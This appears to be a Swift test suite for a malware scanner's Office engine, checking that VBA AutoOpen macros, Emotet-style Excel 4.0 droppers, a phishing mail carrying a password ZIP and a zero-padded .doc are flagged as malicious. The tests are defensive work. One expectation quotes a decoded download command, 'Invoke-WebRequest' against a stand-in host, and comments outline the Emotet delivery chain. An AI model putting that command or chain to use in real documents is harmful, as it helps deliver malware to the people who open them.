import Crypto
import Foundation
import Testing

@testable import Inspection

/// The Office path of the engine on the benign specimens of scripts/make-vba-fixtures.py and the malformed compound
/// files of scripts/make-cfb-fixtures.py.
@Suite struct OfficeEngineTests {
    static func vba(_ name: String) throws -> ScanResult {
        let bytes = try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/\(name)")
        return Inspector().scan(bytes[...], name: name, input: name)
    }

    @Test(arguments: ["autoopen-powershell.docm", "autoopen-powershell.doc"])
    func autoOpenShellPowerShellIsMaliciousAndDecoded(name: String) throws {
        let r = try Self.vba(name)
        #expect(r.verdict == .malicious)
        #expect(r.has(.macroMalicious))
        #expect(r.findings.contains { $0.id == RuleID.macroAutoExec.rawValue && $0.evidence.detail == "AutoOpen" })
        // The PowerShell -EncodedCommand is decoded in the report, with the URL it hides.
        let decoded = r.findings(.macroDecoded).map(\.message).joined(separator: "\n")
        #expect(decoded.contains("Invoke-WebRequest https://dl.example.invalid/a.txt"), "\(decoded)")
        #expect(r.findings.contains { $0.id == RuleID.macroIOC.rawValue && $0.message.contains("dl.example.invalid") })
        // Evidence points at the module and line.
        let autoOpen = r.findings.first { $0.evidence.detail == "AutoOpen" }
        #expect(autoOpen?.evidence.path.hasSuffix("VBA/Module1") == true || autoOpen?.evidence.path.contains("VBA/") == true)
        #expect(autoOpen?.evidence.line != nil)
    }

    @Test func macroWithoutAutoExecIsNotMalicious() throws {
        let r = try Self.vba("format-table.docm")
        #expect(r.has(.macroPresent))
        #expect(r.verdict != .malicious)
        #expect(!r.has(.macroMalicious))
    }

    @Test func cp932ModuleDecodesToJapanese() throws {
        let r = try Self.vba("cp932.docm")
        #expect(r.verdict != .malicious)
        // olevba's decoding of the same module (golden by scripts/make-vba-fixtures.py): the module artifact's
        // SHA-256 must be that of the same text in UTF-8, which says `' 請求書を開く` and `MsgBox "こんにちは"`.
        struct Golden: Decodable {
            struct Project: Decodable { struct Module: Decodable { var name: String; var code: String }; var modules: [Module] }
            var projects: [Project]
        }
        let golden = try JSONDecoder().decode(
            Golden.self, from: Data(try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/golden/cp932.docm.json")))
        let expected = try #require(golden.projects.first?.modules.first { $0.name == "Module1" }).code
        #expect(expected.contains("MsgBox \"こんにちは\""))
        let module = try #require(r.nodes.first { $0.properties?["vba.module"] == "Module1" })
        #expect(module.properties?["vba.codepage"] == "932")
        #expect(module.hashes.sha256 == SHA256.hash(data: Array(expected.utf8)).map { String(format: "%02x", $0) }.joined())
    }

    @Test func everyMalformedCompoundFileIsAFindingNotACrash() throws {
        let dir = RepoFile.root.appendingPathComponent("Tests/CompoundFileTests/Resources/malformed")
        let names = try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".cfb") }
        #expect(names.count >= 20)
        var withFindings = 0
        for name in names.sorted() {
            let bytes = Array(try Data(contentsOf: dir.appendingPathComponent(name)))
            let r = Inspector().scan(bytes[...], name: name, input: name)
            #expect(r.error == nil, "\(name)")
            if r.has(.officeMalformed) { withFindings += 1 }
        }
        // Nearly every specimen is reported; a few (duplicate names, trailing data) are legal enough to open cleanly.
        #expect(withFindings * 10 >= names.count * 8, "\(withFindings) of \(names.count)")
    }

    @Test func aMacroDocumentInAPasswordZIPInJapaneseMailIsMalicious() throws {
        // The Emotet chain: mail → password ZIP (password in the body) → .doc with AutoOpen → PowerShell.
        let doc = try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/autoopen-powershell.doc")
        let zip = StoredZIP.make([("請求書.doc", doc)])
        let b64 = Data(zip).base64EncodedString(options: [.lineLength76Characters, .endLineWithLineFeed])
        let mail = """
            From: =?UTF-8?B?57WM55CG6YOoIOWxseeUsA==?= <yamada@partner.example.invalid>
            To: tanaka@customer.example.invalid
            Subject: =?UTF-8?B?UmU6IOiri+axguabuA==?=
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="b"

            --b
            Content-Type: text/plain; charset=utf-8

            請求書をお送りします。
            --b
            Content-Type: application/zip
            Content-Disposition: attachment; filename="invoice.zip"
            Content-Transfer-Encoding: base64

            \(b64)
            --b--

            """
        let r = Inspector().scan(Array(mail.utf8)[...], input: "mail.eml")
        #expect(r.verdict == .malicious)
        let f = r.findings(.macroMalicious).first
        #expect(f?.evidence.path.hasPrefix("message/attachment[1] invoice.zip/請求書.doc") == true)
    }
}

/// Emotet-style Excel 4.0 droppers (very hidden macro sheet, Auto_Open, EXEC, CALL URLDownloadToFileA) built by
/// scripts/make-xlm-fixtures.py, in the containers olevba misses.
@Suite struct XLMEngineTests {
    static let dir = "Tests/OfficeMacrosTests/Resources/xlm/synthetic"

    func expectDropper(_ r: ScanResult) {
        #expect(r.verdict == .malicious)
        #expect(r.has(.macroMalicious))
        #expect(r.has(.xlmHiddenSheet))
        #expect(r.findings.contains { $0.id == RuleID.macroAutoExec.rawValue })
    }

    @Test func xlsm() throws {
        let bytes = try RepoFile.bytes("\(Self.dir)/macro.xlsm.zip")
        expectDropper(Inspector().scan(bytes[...], name: "macro.xlsm"))
    }

    @Test func xlsb() throws {
        // The fixture keeps the .xlsb's parts as files; zip them as Excel would.
        let root = RepoFile.root.appendingPathComponent("\(Self.dir)/macro.xlsb")
        var parts: [(String, [UInt8])] = []
        let e = FileManager.default.enumerator(atPath: root.path)
        while let p = e?.nextObject() as? String {
            var isDir: ObjCBool = false
            let url = root.appendingPathComponent(p)
            if FileManager.default.fileExists(atPath: url.path, isDirectory: &isDir), !isDir.boolValue {
                parts.append((p, Array(try Data(contentsOf: url))))
            }
        }
        // The fixture has the spreadsheet parts only; add the package's own two parts as Excel writes them.
        parts.append(("[Content_Types].xml", Array("""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
            <Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>\
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
            <Override PartName="/xl/macrosheets/sheet1.bin" ContentType="application/vnd.ms-excel.macrosheet"/>\
            <Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/vnd.ms-excel.worksheet"/></Types>
            """.utf8)))
        parts.append(("_rels/.rels", Array("""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
            Target="xl/workbook.bin"/></Relationships>
            """.utf8)))
        expectDropper(Inspector().scan(StoredZIP.make(parts.sorted { $0.0 < $1.0 })[...], name: "macro.xlsb"))
    }

    @Test func sylk() throws {
        let bytes = try RepoFile.bytes("\(Self.dir)/macro.slk")
        let r = Inspector().scan(bytes[...], name: "macro.slk")
        #expect(r.verdict == .malicious)
        #expect(r.has(.xlmPresent))
    }
}

@Suite struct PaddedDocumentTests {
    /// Emotet (March 2023): a .doc padded with zeros at its end. The padding goes, the document stays whole (its
    /// own zero-filled last sector included), and its macro is found.
    @Test func trailingPaddingLeavesTheCompoundFileWhole() throws {
        let doc = try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/autoopen-powershell.doc")
        let padded = doc + [UInt8](repeating: 0, count: 3 << 20)
        let r = Inspector().scan(StoredZIP.make([("請求書.doc", padded)])[...], name: "invoice.zip")
        let entry = try #require(r.nodes.first { $0.name == "請求書.doc" })
        #expect(entry.size == doc.count)
        #expect(entry.paddingBytes == padded.count - doc.count)
        #expect(r.has(.zeroPadding))
        #expect(r.has(.macroMalicious))
        #expect(!r.has(.officeMalformed))
    }
}
